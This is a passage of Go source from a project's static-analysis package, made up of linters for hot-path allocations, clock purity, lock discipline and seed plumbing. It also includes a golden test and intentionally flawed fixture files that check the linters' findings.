func checkHotCall(report func(token.Pos, string, ...any), info *types.Info, call *ast.CallExpr, stack []ast.Node) {
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		if b, ok := info.Uses[fun].(*types.Builtin); ok {
			switch b.Name() {
			case "make":
				if !capGuarded(call, stack) {
					report(call.Pos(), "unamortized make (guard growth with a cap check, or hoist the buffer to reusable scratch)")
				}
			case "new":
				report(call.Pos(), "new allocates")
			case "append":
				if localSliceArg(info, call, stack) {
					report(call.Pos(), "append grows a function-local slice per call (reuse caller-owned or struct scratch instead)")
				}
			}
			return
		}
	}
	callee := calleeOf(info, call)
	if callee != nil && callee.Pkg() != nil && callee.Pkg().Path() == "fmt" {
		report(call.Pos(), "fmt.%s allocates (formatting boxes its operands)", callee.Name())
		return
	}
	checkBoxing(report, info, call)
}

// checkBoxing flags arguments whose static type is a concrete non-pointer
// value passed to an interface-typed parameter — the boxing allocation
// fmt-style APIs hide.
func checkBoxing(report func(token.Pos, string, ...any), info *types.Info, call *ast.CallExpr) {
	if call.Ellipsis.IsValid() {
		return // f(xs...) passes the slice through, no per-element boxing
	}
	sigT := info.TypeOf(call.Fun)
	if sigT == nil {
		return
	}
	sig, ok := sigT.Underlying().(*types.Signature)
	if !ok {
		return // a conversion, not a call
	}
	params := sig.Params()
	for i, arg := range call.Args {
		var pt types.Type
		switch {
		case sig.Variadic() && i >= params.Len()-1:
			pt = params.At(params.Len() - 1).Type().(*types.Slice).Elem()
		case i < params.Len():
			pt = params.At(i).Type()
		default:
			continue
		}
		if !types.IsInterface(pt) {
			continue
		}
		at := info.TypeOf(arg)
		if at == nil || types.IsInterface(at) {
			continue
		}
		switch at.Underlying().(type) {
		case *types.Pointer, *types.Chan, *types.Signature:
			continue // pointer-shaped: interface conversion does not copy
		}
		if b, ok := at.Underlying().(*types.Basic); ok && b.Kind() == types.UntypedNil {
			continue
		}
		report(arg.Pos(), "argument boxes a %s into an interface parameter", at.String())
	}
}

// capGuarded reports whether a make call sits under an if whose condition
// consults cap() — the amortized-growth idiom
// (if cap(buf) < n { buf = make(...) }).
func capGuarded(call *ast.CallExpr, stack []ast.Node) bool {
	for _, anc := range stack {
		ifStmt, ok := anc.(*ast.IfStmt)
		if !ok {
			continue
		}
		guarded := false
		ast.Inspect(ifStmt.Cond, func(n ast.Node) bool {
			if c, ok := n.(*ast.CallExpr); ok {
				if id, ok := ast.Unparen(c.Fun).(*ast.Ident); ok && id.Name == "cap" {
					guarded = true
				}
			}
			return !guarded
		})
		if guarded {
			return true
		}
	}
	return false
}

// localSliceArg reports whether the append target is a slice variable
// declared inside the enclosing function (growth that cannot amortize
// across calls). Parameters and struct fields are exempt: they are the
// caller-owned and reusable-scratch patterns.
func localSliceArg(info *types.Info, call *ast.CallExpr, stack []ast.Node) bool {
	if len(call.Args) == 0 {
		return false
	}
	id, ok := ast.Unparen(call.Args[0]).(*ast.Ident)
	if !ok {
		return false
	}
	obj := info.Uses[id]
	if obj == nil {
		obj = info.Defs[id]
	}
	v, ok := obj.(*types.Var)
	if !ok || v.IsField() {
		return false
	}
	var fn ast.Node
	for _, anc := range stack {
		switch anc.(type) {
		case *ast.FuncDecl, *ast.FuncLit:
			fn = anc
		}
	}
	if fn == nil {
		return false
	}
	if fd, ok := fn.(*ast.FuncDecl); ok && paramOf(info, fd.Type, fd.Recv, v) {
		return false
	}
	if fl, ok := fn.(*ast.FuncLit); ok && paramOf(info, fl.Type, nil, v) {
		return false
	}
	return v.Pos() >= fn.Pos() && v.Pos() <= fn.End()
}

// paramOf reports whether v is a parameter, result or receiver of the
// function type.
func paramOf(info *types.Info, ft *ast.FuncType, recv *ast.FieldList, v *types.Var) bool {
	match := func(fl *ast.FieldList) bool {
		if fl == nil {
			return false
		}
		for _, f := range fl.List {
			for _, name := range f.Names {
				if info.Defs[name] == v {
					return true
				}
			}
		}
		return false
	}
	return match(ft.Params) || match(ft.Results) || match(recv)
}

// capturedVar returns the name of one variable the func literal captures
// from its enclosing function scope ("" when it captures nothing —
// package-level state is not a capture and costs nothing).
func capturedVar(info *types.Info, encl *ast.FuncDecl, lit *ast.FuncLit) string {
	name := ""
	ast.Inspect(lit.Body, func(n ast.Node) bool {
		if name != "" {
			return false
		}
		id, ok := n.(*ast.Ident)
		if !ok {
			return true
		}
		v, ok := info.Uses[id].(*types.Var)
		if !ok || v.IsField() {
			return true
		}
		// Captured: declared inside the enclosing function but outside
		// the literal.
		if v.Pos() >= encl.Pos() && v.Pos() < lit.Pos() {
			name = v.Name()
		}
		return true
	})
	return name
}

// calleeOf resolves a call to its static *types.Func: a package function,
// a concrete method, or an interface method (which then has no body in
// the program and acts as a traversal boundary).
func calleeOf(info *types.Info, call *ast.CallExpr) *types.Func {
	switch fun := ast.Unparen(call.Fun).(type) {
	case *ast.Ident:
		if fn, ok := info.Uses[fun].(*types.Func); ok {
			return fn
		}
	case *ast.SelectorExpr:
		if fn, ok := info.Uses[fun.Sel].(*types.Func); ok {
			return fn
		}
	}
	return nil
}
