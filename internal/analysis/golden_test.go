package analysis

import (
	"fmt"
	"path/filepath"
	"strings"
	"testing"
)

// goldenCases pins the exact findings each analyzer must produce on its
// seeded-bad fixture package under testdata/src/<analyzer>, in position
// order, rendered as "file.go:line: message". A fixture construct the
// analyzer misses, an extra finding, a drifted message or a broken
// //lint:allow all fail the diff.
var goldenCases = map[string][]string{
	"hotpathalloc": nil, // filled below; split out for length
	"clockpurity": {
		"clock.go:14: wall clock: time.Now in deterministic package det (thread the logical clock instead)",
		"clock.go:15: wall clock: time.Since in deterministic package det (thread the logical clock instead)",
		"randsrc.go:8: global randomness: rand.Int63 in deterministic package det (use an explicitly seeded generator)",
	},
	"lockdiscipline": {
		"lock.go:18: t.mu acquires its own receiver's mutex inside *Locked method flushLocked (the convention says the caller holds it)",
		"lock.go:25: call to t.growLocked without holding t.mu (call it from a *Locked method or after t.mu.Lock())",
		"shard.go:26: Len touches sharded field sh.n, guarded by sh.mu, without locking (take the shard lock first or do it from a *Locked function)",
		"shard.go:34: drain touches sharded field sh.n, guarded by sh.mu, without locking (take the shard lock first or do it from a *Locked function)",
		"stats.go:14: exported method Hits touches s.hits, guarded by s.mu, without locking (lock first or move the access into a *Locked method)",
	},
	"counteratomic": {
		"counters.go:24: plain access to Stats.Hits, which is accessed atomically at counters.go:18 (pick one discipline for the field)",
		"gauges.go:22: plain access to Gauges.Depth, which is accessed atomically at gauges.go:15 (pick one discipline for the field)",
	},
	"seedplumb": {
		"rng.go:18: seed field rng derived from global math/rand (rand.Int63); thread it from config or a parameter",
		"seed.go:25: seed field Seed derived from wall clock (time.Now); thread it from config or a parameter",
		"seed.go:30: seed field Seed derived from wall clock (time.Now); thread it from config or a parameter",
	},
}

func init() {
	goldenCases["hotpathalloc"] = []string{
		"cold.go:13: new allocates (hot path via Drain)",
		"hot.go:16: unamortized make (guard growth with a cap check, or hoist the buffer to reusable scratch) (hot path via Process)",
		"hot.go:17: new allocates (hot path via Process)",
		"hot.go:19: append grows a function-local slice per call (reuse caller-owned or struct scratch instead) (hot path via Process)",
		"hot.go:20: map literal allocates (hot path via Process)",
		"hot.go:21: map write can grow buckets (hot path via Process)",
		"hot.go:22: address of composite literal escapes to the heap (hot path via Process)",
		"hot.go:23: fmt.Sprintf allocates (formatting boxes its operands) (hot path via Process)",
		"hot.go:35: closure captures \"n\" and allocates per call (hot path via Process)",
		"hot.go:42: argument boxes a int into an interface parameter (hot path via Process)",
	}
}

// TestGoldenFixtures runs each analyzer over its own seeded-bad package
// and diffs the findings against the pinned expectations.
func TestGoldenFixtures(t *testing.T) {
	byName := make(map[string]*Analyzer)
	for _, az := range Analyzers() {
		byName[az.Name] = az
	}
	for name, want := range goldenCases {
		t.Run(name, func(t *testing.T) {
			az := byName[name]
			if az == nil {
				t.Fatalf("no analyzer named %q", name)
			}
			dir := filepath.Join("testdata", "src", name)
			prog, err := LoadDir(dir)
			if err != nil {
				t.Fatalf("LoadDir(%s): %v", dir, err)
			}
			var got []string
			for _, d := range prog.Run(az) {
				got = append(got, fmt.Sprintf("%s:%d: %s", filepath.Base(d.Pos.Filename), d.Pos.Line, d.Message))
			}
			if diff := diffLines(want, got); diff != "" {
				t.Errorf("findings mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

// TestCorpusIsBad pins the acceptance property that the corpus as a
// whole is dirty: every fixture package yields at least one finding when
// the full suite runs, so a silently broken loader cannot fake a pass.
func TestCorpusIsBad(t *testing.T) {
	for name := range goldenCases {
		prog, err := LoadDir(filepath.Join("testdata", "src", name))
		if err != nil {
			t.Fatalf("LoadDir(%s): %v", name, err)
		}
		if n := len(prog.Run(Analyzers()...)); n == 0 {
			t.Errorf("fixture %s: full suite found nothing; the corpus must stay bad", name)
		}
	}
}

// diffLines renders a minimal line diff of two string slices.
func diffLines(want, got []string) string {
	if len(want) == len(got) {
		same := true
		for i := range want {
			if want[i] != got[i] {
				same = false
				break
			}
		}
		if same {
			return ""
		}
	}
	var b strings.Builder
	for _, w := range want {
		fmt.Fprintf(&b, "-%s\n", w)
	}
	for _, g := range got {
		fmt.Fprintf(&b, "+%s\n", g)
	}
	return b.String()
}
