package analysis

import (
	"go/ast"
	"go/types"
)

// SeedPlumb enforces seed plumbing: a struct field that names itself a
// seed or generator (Seed, seed, rng, Rng, RNG, Rand, rand) must be
// filled from configuration or a parameter, never derived from the wall
// clock or the global math/rand source at the assignment site. A
// time.Now().UnixNano() seed makes every "reproducible" run
// unreproducible — the exact bug class the simulator's per-seed
// byte-identical contract forbids.
var SeedPlumb = &Analyzer{
	Name: "seedplumb",
	Doc:  "forbid wall-clock or global-rand initialization of seed/rng fields",
	Run:  runSeedPlumb,
}

// seedFieldNames are the field names the analyzer treats as seed state.
var seedFieldNames = map[string]bool{
	"Seed": true, "seed": true,
	"Rng": true, "rng": true, "RNG": true,
	"Rand": true, "rand": true,
}

func runSeedPlumb(pass *Pass) {
	for _, pkg := range pass.Prog.TargetPackages() {
		for _, f := range pkg.Files {
			ast.Inspect(f, func(n ast.Node) bool {
				switch n := n.(type) {
				case *ast.AssignStmt:
					for i, lhs := range n.Lhs {
						if i >= len(n.Rhs) {
							break // x, y = f() — can't attribute a single RHS
						}
						name, ok := seedFieldTarget(pkg.Info, lhs)
						if !ok {
							continue
						}
						reportImpureSeed(pass, pkg, name, n.Rhs[i])
					}
				case *ast.CompositeLit:
					for _, elt := range n.Elts {
						kv, ok := elt.(*ast.KeyValueExpr)
						if !ok {
							continue
						}
						key, ok := kv.Key.(*ast.Ident)
						if !ok || !seedFieldNames[key.Name] {
							continue
						}
						if !isStructLit(pkg.Info, n) {
							continue
						}
						reportImpureSeed(pass, pkg, key.Name, kv.Value)
					}
				}
				return true
			})
		}
	}
}

// seedFieldTarget reports whether an assignment LHS is a seed-named
// struct field selector.
func seedFieldTarget(info *types.Info, lhs ast.Expr) (string, bool) {
	sel, ok := ast.Unparen(lhs).(*ast.SelectorExpr)
	if !ok || !seedFieldNames[sel.Sel.Name] {
		return "", false
	}
	selInfo := info.Selections[sel]
	if selInfo == nil {
		return "", false
	}
	v, ok := selInfo.Obj().(*types.Var)
	if !ok || !v.IsField() {
		return "", false
	}
	return sel.Sel.Name, true
}

// isStructLit reports whether a composite literal builds a struct value.
func isStructLit(info *types.Info, lit *ast.CompositeLit) bool {
	t := info.TypeOf(lit)
	if t == nil {
		return false
	}
	if p, ok := t.Underlying().(*types.Pointer); ok {
		t = p.Elem()
	}
	_, ok := t.Underlying().(*types.Struct)
	return ok
}

// reportImpureSeed flags the RHS if its subtree reaches the wall clock or
// the global math/rand source.
func reportImpureSeed(pass *Pass, pkg *Package, field string, rhs ast.Expr) {
	ast.Inspect(rhs, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		fn := calleeOf(pkg.Info, call)
		if fn == nil || fn.Pkg() == nil {
			return true
		}
		switch fn.Pkg().Path() {
		case "time":
			if wallClockFuncs[fn.Name()] {
				pass.Reportf(rhs.Pos(), "seed field %s derived from wall clock (time.%s); thread it from config or a parameter", field, fn.Name())
				return false
			}
		case "math/rand", "math/rand/v2":
			if fn.Type().(*types.Signature).Recv() != nil {
				return true // drawing from an explicitly seeded *Rand is fine
			}
			if !seededRandFuncs[fn.Name()] {
				pass.Reportf(rhs.Pos(), "seed field %s derived from global math/rand (rand.%s); thread it from config or a parameter", field, fn.Name())
				return false
			}
		}
		return true
	})
}
