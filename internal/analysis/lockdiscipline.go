package analysis

import (
	"fmt"
	"go/ast"
	"go/types"
	"strings"
)

// LockDiscipline enforces the *Locked naming convention on types that
// carry a sync.Mutex or sync.RWMutex field:
//
//   - a method named FooLocked asserts "my receiver's mutex is held":
//     calling it is only legal from another *Locked method of the same
//     type (on the same receiver) or lexically after <recv>.<mu>.Lock()
//     / RLock() in the calling function;
//   - a *Locked method must not acquire its own receiver's mutex — that
//     is a self-deadlock by convention;
//   - an exported non-Locked method must not touch the fields the mutex
//     guards (the fields declared after it in the struct, the Go
//     "mu guards fields below" convention) without locking first;
//   - for a //lint:sharded struct (one shard element of a sharded
//     cache), the guarded-field rule hardens to every function, exported
//     or not, method or not: cross-shard state may only be touched
//     lexically after <shard>.<mu>.Lock()/RLock() on the same base
//     chain, or from a *Locked function whose caller holds the shard
//     lock. Dynamic bases (sm.shards[i].f) render as "" and escape the
//     lexical check — take a named handle (sh := &sm.shards[i]) so the
//     discipline is visible, which the sharded wrappers do throughout.
//
// The analysis is lexical, as documented in the README: it checks the
// convention, not every aliasing path — which is exactly what makes it
// cheap enough to gate every PR.
var LockDiscipline = &Analyzer{
	Name: "lockdiscipline",
	Doc:  "enforce the *Locked naming convention against mutex-bearing receivers",
	Run:  runLockDiscipline,
}

// lockedType describes one struct type with a mutex field.
type lockedType struct {
	named   *types.Named
	muField string
	guarded map[string]bool // fields declared after the mutex
	sharded bool            // //lint:sharded: guarded-field rule applies to every function
}

func runLockDiscipline(pass *Pass) {
	types_ := collectLockedTypes(pass)
	if len(types_) == 0 {
		return
	}
	for _, pkg := range pass.Prog.TargetPackages() {
		for _, f := range pkg.Files {
			for _, d := range f.Decls {
				fd, ok := d.(*ast.FuncDecl)
				if !ok || fd.Body == nil {
					continue
				}
				checkLockFunc(pass, pkg, fd, types_)
			}
		}
	}
}

// collectLockedTypes finds every target-package struct with a mutex field
// and records which fields it guards.
func collectLockedTypes(pass *Pass) map[*types.Named]*lockedType {
	out := make(map[*types.Named]*lockedType)
	for _, pkg := range pass.Prog.TargetPackages() {
		for _, f := range pkg.Files {
			for _, d := range f.Decls {
				gd, ok := d.(*ast.GenDecl)
				if !ok {
					continue
				}
				for _, spec := range gd.Specs {
					ts, ok := spec.(*ast.TypeSpec)
					if !ok {
						continue
					}
					st, ok := ts.Type.(*ast.StructType)
					if !ok {
						continue
					}
					obj, ok := pkg.Info.Defs[ts.Name].(*types.TypeName)
					if !ok {
						continue
					}
					named, ok := obj.Type().(*types.Named)
					if !ok {
						continue
					}
					doc := ts.Doc
					if doc == nil {
						doc = gd.Doc
					}
					lt := &lockedType{
						named:   named,
						guarded: make(map[string]bool),
						sharded: hasDirective(doc, DirSharded),
					}
					for _, field := range st.Fields.List {
						ft := pkg.Info.TypeOf(field.Type)
						isMutex := ft != nil && (ft.String() == "sync.Mutex" || ft.String() == "sync.RWMutex")
						for _, name := range field.Names {
							switch {
							case isMutex && lt.muField == "":
								lt.muField = name.Name
							case lt.muField != "":
								lt.guarded[name.Name] = true
							}
						}
					}
					if lt.muField != "" {
						out[named] = lt
					}
				}
			}
		}
	}
	return out
}

// receiverType resolves a method's receiver to its named type, unwrapping
// one pointer.
func receiverType(info *types.Info, fd *ast.FuncDecl) *types.Named {
	if fd.Recv == nil || len(fd.Recv.List) == 0 {
		return nil
	}
	t := info.TypeOf(fd.Recv.List[0].Type)
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	named, _ := t.(*types.Named)
	return named
}

// lockedName reports whether a method name claims the convention.
func lockedName(name string) bool {
	return strings.HasSuffix(name, "Locked") && name != "Locked"
}

// checkLockFunc applies the three rules to one function body.
func checkLockFunc(pass *Pass, pkg *Package, fd *ast.FuncDecl, lts map[*types.Named]*lockedType) {
	info := pkg.Info
	recvNamed := receiverType(info, fd)
	recvLT := lts[recvNamed]
	isLocked := recvLT != nil && lockedName(fd.Name.Name)
	recvName := ""
	if fd.Recv != nil && len(fd.Recv.List) > 0 && len(fd.Recv.List[0].Names) > 0 {
		recvName = fd.Recv.List[0].Names[0].Name
	}

	// Pass 1: the positions where each base expression acquires its mutex.
	lockPos := make(map[string][]ast.Node)
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		call, ok := n.(*ast.CallExpr)
		if !ok {
			return true
		}
		sel, ok := ast.Unparen(call.Fun).(*ast.SelectorExpr)
		if !ok || (sel.Sel.Name != "Lock" && sel.Sel.Name != "RLock") {
			return true
		}
		muSel, ok := ast.Unparen(sel.X).(*ast.SelectorExpr)
		if !ok {
			return true
		}
		base, lt := guardedBase(info, muSel, lts)
		if lt == nil || muSel.Sel.Name != lt.muField {
			return true
		}
		lockPos[base] = append(lockPos[base], call)
		if isLocked && base == recvName && lts[recvNamed] == lt {
			pass.Reportf(call.Pos(), "%s.%s acquires its own receiver's mutex inside *Locked method %s (the convention says the caller holds it)", base, lt.muField, fd.Name.Name)
		}
		return true
	})
	heldBefore := func(base string, pos ast.Node) bool {
		for _, l := range lockPos[base] {
			if l.Pos() < pos.Pos() {
				return true
			}
		}
		return false
	}

	// Pass 2: calls to *Locked methods and guarded-field accesses.
	ast.Inspect(fd.Body, func(n ast.Node) bool {
		sel, ok := n.(*ast.SelectorExpr)
		if !ok {
			return true
		}
		selInfo := info.Selections[sel]
		if selInfo == nil {
			return true
		}
		base := exprChain(sel.X)
		switch obj := selInfo.Obj().(type) {
		case *types.Func:
			if !lockedName(obj.Name()) {
				return true
			}
			callee, lt := methodOwner(obj, lts)
			if lt == nil {
				return true
			}
			if isLocked && base == recvName && callee == recvNamed {
				return true // Locked-to-Locked on the same receiver
			}
			if base != "" && heldBefore(base, sel) {
				return true
			}
			pass.Reportf(sel.Sel.Pos(), "call to %s.%s without holding %s.%s (call it from a *Locked method or after %s.%s.Lock())",
				base, obj.Name(), base, lt.muField, base, lt.muField)
		case *types.Var:
			if !obj.IsField() {
				return true
			}
			if lt := shardedOwner(info, sel, lts); lt != nil && lt.guarded[obj.Name()] {
				if lockedName(fd.Name.Name) {
					return true // the caller vouches for the shard lock
				}
				if base == "" {
					return true // dynamic base (sm.shards[i].f): outside the lexical check
				}
				if heldBefore(base, sel) {
					return true
				}
				pass.Reportf(sel.Sel.Pos(), "%s touches sharded field %s.%s, guarded by %s.%s, without locking (take the shard lock first or do it from a *Locked function)",
					fd.Name.Name, base, obj.Name(), base, lt.muField)
				return true
			}
			if recvLT == nil || base != recvName || recvName == "" {
				return true
			}
			if !recvLT.guarded[obj.Name()] || isLocked || !ast.IsExported(fd.Name.Name) {
				return true
			}
			if heldBefore(base, sel) {
				return true
			}
			pass.Reportf(sel.Sel.Pos(), "exported method %s touches %s.%s, guarded by %s.%s, without locking (lock first or move the access into a *Locked method)",
				fd.Name.Name, base, obj.Name(), base, recvLT.muField)
		}
		return true
	})
}

// methodOwner resolves which tracked type a *Locked method belongs to.
func methodOwner(fn *types.Func, lts map[*types.Named]*lockedType) (*types.Named, *lockedType) {
	sig, ok := fn.Type().(*types.Signature)
	if !ok || sig.Recv() == nil {
		return nil, nil
	}
	t := sig.Recv().Type()
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok {
		return nil, nil
	}
	return named, lts[named]
}

// shardedOwner resolves the base of a field selection to a tracked
// //lint:sharded type, or nil when the base is not one.
func shardedOwner(info *types.Info, sel *ast.SelectorExpr, lts map[*types.Named]*lockedType) *lockedType {
	t := info.TypeOf(sel.X)
	if t == nil {
		return nil
	}
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok {
		return nil
	}
	lt := lts[named]
	if lt == nil || !lt.sharded {
		return nil
	}
	return lt
}

// guardedBase resolves the base expression of a <base>.<mu> selector to
// its rendered chain and the tracked type of <base>.
func guardedBase(info *types.Info, muSel *ast.SelectorExpr, lts map[*types.Named]*lockedType) (string, *lockedType) {
	t := info.TypeOf(muSel.X)
	if t == nil {
		return "", nil
	}
	if p, ok := t.(*types.Pointer); ok {
		t = p.Elem()
	}
	named, ok := t.(*types.Named)
	if !ok {
		return "", nil
	}
	return exprChain(muSel.X), lts[named]
}

// exprChain renders a selector chain of identifiers ("r", "tg.t") for
// lexical base matching; anything more dynamic renders as "".
func exprChain(e ast.Expr) string {
	switch e := ast.Unparen(e).(type) {
	case *ast.Ident:
		return e.Name
	case *ast.SelectorExpr:
		base := exprChain(e.X)
		if base == "" {
			return ""
		}
		return fmt.Sprintf("%s.%s", base, e.Sel.Name)
	}
	return ""
}
