// Package analysis is the project's static-analysis framework: a
// stdlib-only (go/parser, go/ast, go/types — no golang.org/x deps,
// preserving the module's zero-dependency stance) loader plus the five
// project-specific analyzers that turn this repo's core invariants into
// compile-time contracts:
//
//   - hotpathalloc: no heap-allocating constructs on the call graph
//     rooted at //lint:hotpath-annotated functions (the zero-allocation
//     frame hot path);
//   - clockpurity: no wall clock or global randomness in
//     //lint:deterministic packages (byte-identical runs per seed);
//   - lockdiscipline: the *Locked naming convention — a FooLocked method
//     is only called with the receiver's mutex held, and exported
//     non-Locked methods do not touch mutex-guarded fields directly;
//   - counteratomic: every field of a //lint:atomiccounters struct is
//     accessed either always atomically or always plainly, never mixed;
//   - seedplumb: Seed/rng struct fields are threaded from configs or
//     parameters, never initialized from the wall clock.
//
// Analyzers run over a type-checked Program (see Load) and report
// Diagnostics, which the //lint:allow directive can suppress inline.
// cmd/lint is the driver; the CI lint job gates on zero findings.
package analysis

import (
	"fmt"
	"go/ast"
	"go/token"
	"sort"
	"strings"
)

// Directive names understood by the framework and its analyzers. A
// directive is a comment of the form //lint:<name> [args] attached to
// the package clause, a type declaration or a function declaration.
const (
	// DirHotpath marks a function as a hot-path root: hotpathalloc walks
	// the static call graph from it.
	DirHotpath = "hotpath"
	// DirColdpath marks a function as an explicit hot/cold boundary:
	// hotpathalloc does not analyze or descend into it. Use it where the
	// hot path hands off to the intentionally expensive slow path.
	DirColdpath = "coldpath"
	// DirDeterministic marks a package (on the package clause doc) as
	// logically clocked: clockpurity forbids wall clock and global
	// randomness in it.
	DirDeterministic = "deterministic"
	// DirAtomicCounters marks a struct type whose fields counteratomic
	// holds to a single access discipline.
	DirAtomicCounters = "atomiccounters"
	// DirSharded marks a mutex-bearing shard-element struct (one shard of
	// a sharded cache): lockdiscipline then flags any access to its
	// guarded fields — from any function, not just exported methods of
	// the type — that is not preceded by a lock acquisition on the same
	// base chain or made from a *Locked function.
	DirSharded = "sharded"
	// DirAllow suppresses one analyzer's diagnostics on the same or the
	// following line: //lint:allow <analyzer> <reason>. The reason is
	// mandatory — a bare allow suppresses nothing.
	DirAllow = "allow"
)

// Diagnostic is one analyzer finding, positioned in the loaded file set.
type Diagnostic struct {
	Pos      token.Position
	Analyzer string
	Message  string
}

// String renders the diagnostic in the file:line:col style compilers use.
func (d Diagnostic) String() string {
	return fmt.Sprintf("%s:%d:%d: %s: %s", d.Pos.Filename, d.Pos.Line, d.Pos.Column, d.Analyzer, d.Message)
}

// Analyzer is one named invariant check. Run receives a Pass bound to a
// loaded Program and reports findings through it.
type Analyzer struct {
	Name string
	Doc  string
	Run  func(*Pass)
}

// Pass is one analyzer's execution context over a Program.
type Pass struct {
	Analyzer *Analyzer
	Prog     *Program

	diags []Diagnostic
}

// Reportf records a finding at pos. Suppression (//lint:allow) is applied
// after the run, so analyzers never need to know about it.
func (p *Pass) Reportf(pos token.Pos, format string, args ...any) {
	p.diags = append(p.diags, Diagnostic{
		Pos:      p.Prog.Fset.Position(pos),
		Analyzer: p.Analyzer.Name,
		Message:  fmt.Sprintf(format, args...),
	})
}

// Analyzers returns the full suite in stable order.
func Analyzers() []*Analyzer {
	return []*Analyzer{
		HotPathAlloc,
		ClockPurity,
		LockDiscipline,
		CounterAtomic,
		SeedPlumb,
	}
}

// Run executes the given analyzers over the program, applies //lint:allow
// suppression, and returns the surviving diagnostics sorted by position.
func (prog *Program) Run(analyzers ...*Analyzer) []Diagnostic {
	allows := prog.allowSites()
	var out []Diagnostic
	for _, az := range analyzers {
		pass := &Pass{Analyzer: az, Prog: prog}
		az.Run(pass)
		for _, d := range pass.diags {
			if allows[allowKey{d.Pos.Filename, d.Pos.Line, az.Name}] ||
				allows[allowKey{d.Pos.Filename, d.Pos.Line - 1, az.Name}] {
				continue
			}
			out = append(out, d)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		a, b := out[i], out[j]
		if a.Pos.Filename != b.Pos.Filename {
			return a.Pos.Filename < b.Pos.Filename
		}
		if a.Pos.Line != b.Pos.Line {
			return a.Pos.Line < b.Pos.Line
		}
		if a.Pos.Column != b.Pos.Column {
			return a.Pos.Column < b.Pos.Column
		}
		return a.Analyzer < b.Analyzer
	})
	return out
}

// allowKey identifies one //lint:allow site: a suppression applies to the
// named analyzer's diagnostics on its own line and the line below it.
type allowKey struct {
	file     string
	line     int
	analyzer string
}

// allowSites indexes every well-formed //lint:allow directive in the
// loaded files. Malformed directives (missing analyzer or reason)
// suppress nothing.
func (prog *Program) allowSites() map[allowKey]bool {
	sites := make(map[allowKey]bool)
	for _, pkg := range prog.Pkgs {
		for _, f := range pkg.Files {
			for _, cg := range f.Comments {
				for _, c := range cg.List {
					rest, ok := directiveArgs(c.Text, DirAllow)
					if !ok {
						continue
					}
					fields := strings.Fields(rest)
					if len(fields) < 2 {
						continue // analyzer plus a reason are both required
					}
					pos := prog.Fset.Position(c.Pos())
					sites[allowKey{pos.Filename, pos.Line, fields[0]}] = true
				}
			}
		}
	}
	return sites
}

// directiveArgs reports whether a comment line is the //lint:<name>
// directive, returning the text after the name.
func directiveArgs(comment, name string) (string, bool) {
	body, ok := strings.CutPrefix(comment, "//lint:"+name)
	if !ok {
		return "", false
	}
	if body == "" {
		return "", true
	}
	if body[0] != ' ' && body[0] != '\t' {
		return "", false // a longer directive name, e.g. hotpath vs hotpathalloc
	}
	return strings.TrimSpace(body), true
}

// hasDirective reports whether the comment group carries //lint:<name>.
func hasDirective(cg *ast.CommentGroup, name string) bool {
	if cg == nil {
		return false
	}
	for _, c := range cg.List {
		if _, ok := directiveArgs(c.Text, name); ok {
			return true
		}
	}
	return false
}

// inspectWithStack walks root like ast.Inspect while maintaining the
// ancestor stack (root first, excluding n itself) for each visited node.
func inspectWithStack(root ast.Node, fn func(n ast.Node, stack []ast.Node) bool) {
	var stack []ast.Node
	ast.Inspect(root, func(n ast.Node) bool {
		if n == nil {
			stack = stack[:len(stack)-1]
			return true
		}
		descend := fn(n, stack)
		if descend {
			stack = append(stack, n)
		}
		return descend
	})
}
