// Package hot is a seeded-bad fixture for the hotpathalloc analyzer:
// every construct the analyzer forbids, reachable from one annotated
// root.
package hot

import "fmt"

// Sink keeps fixture results observable without unused-variable errors.
var Sink any

// Process is the annotated hot-path root; the allocations below and in
// the helpers it calls must all be flagged.
//
//lint:hotpath
func Process(keys []uint64, scratch []int) {
	buf := make([]byte, len(keys)) // want: unamortized make
	tmp := new(int)                // want: new allocates
	var local []int
	local = append(local, 1) // want: append grows a function-local slice
	m := map[uint64]int{}    // want: map literal
	m[keys[0]] = 1           // want: map write
	p := &point{x: 1}        // want: address of composite literal
	fmt.Sprintf("%d", tmp)   // want: fmt allocates
	Sink = buf
	Sink = local
	Sink = p
	helper(keys, scratch)
}

type point struct{ x int }

// helper is reachable from Process, so its allocations are hot too.
func helper(keys []uint64, scratch []int) {
	n := 0
	f := func() { n += len(keys) } // want: closure captures n
	f()
	scratch = append(scratch, n) // parameter append: exempt
	if cap(scratch) < len(keys) {
		scratch = make([]int, len(keys)) // cap-guarded make: exempt
	}
	Sink = scratch
	box(n) // want at the call: boxing an int into any
}

// box takes an interface parameter so callers box concrete values.
func box(v any) { Sink = v }
