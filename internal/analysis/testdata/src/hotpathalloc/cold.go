package hot

// Drain is a second annotated root exercising the coldpath boundary and
// //lint:allow suppression.
//
//lint:hotpath
func Drain(keys []uint64) {
	slowPath(keys) // boundary: slowPath's allocations stay unflagged
	//lint:allow hotpathalloc fixture demonstrates a justified suppression
	suppressed := new(int)
	Sink = suppressed
	//lint:allow hotpathalloc
	bare := new(int) // want: bare allow (no reason) suppresses nothing
	Sink = bare
}

// slowPath allocates freely: it is the explicit cold side.
//
//lint:coldpath
func slowPath(keys []uint64) {
	m := make(map[uint64]bool, len(keys))
	for _, k := range keys {
		m[k] = true
	}
	Sink = m
}
