package seeds

import "math/rand"

// Mixer owns an rng field.
type Mixer struct {
	rng *rand.Rand
}

// NewMixer builds the generator from a threaded seed: clean.
func NewMixer(cfg Config) *Mixer {
	return &Mixer{rng: rand.New(rand.NewSource(int64(cfg.Seed)))}
}

// NewMixerGlobal derives the rng from the global source.
func NewMixerGlobal() *Mixer {
	m := &Mixer{}
	m.rng = rand.New(rand.NewSource(rand.Int63())) // want: global-rand seed
	return m
}
