// Package seeds is a seeded-bad fixture for the seedplumb analyzer:
// seed fields initialized from the wall clock instead of configuration.
package seeds

import "time"

// Config is where a seed is supposed to come from.
type Config struct {
	Seed uint64
}

// Gen owns a seed field.
type Gen struct {
	Seed uint64
	last uint64
}

// NewGen threads the seed correctly.
func NewGen(cfg Config) *Gen {
	return &Gen{Seed: cfg.Seed}
}

// NewGenWallClock seeds from the wall clock in a composite literal.
func NewGenWallClock() *Gen {
